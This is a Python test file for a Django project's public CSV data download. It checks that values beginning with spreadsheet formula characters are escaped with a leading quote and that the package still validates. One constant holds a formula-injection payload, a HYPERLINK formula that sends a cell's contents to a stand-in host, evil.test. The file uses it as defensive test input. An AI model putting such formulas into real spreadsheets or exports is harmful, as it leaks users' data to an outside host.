"""The public data download neutralises spreadsheet formulas and still validates."""

import csv

import pytest
from frictionless import validate

from observatoire.directory.datapackage import build_datapackage

from . import factory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.test/?leak="&A1,"Cliquez")'


def test_a_tool_named_like_a_formula_is_written_as_text_and_the_package_validates(tmp_path):
    factory.tool(EVIL, description="-2+3 citoyens", makers=[factory.organisation("@Citoyens")])
    build_datapackage(None, tmp_path)
    with (tmp_path / "tools.csv").open(encoding="utf-8") as handle:
        tool = next(csv.DictReader(handle))
    assert tool["name"] == "'" + EVIL
    assert tool["description"] == "'-2+3 citoyens"
    with (tmp_path / "organisations.csv").open(encoding="utf-8") as handle:
        assert next(csv.DictReader(handle))["name"] == "'@Citoyens"
    report = validate(tmp_path / "datapackage.json")
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
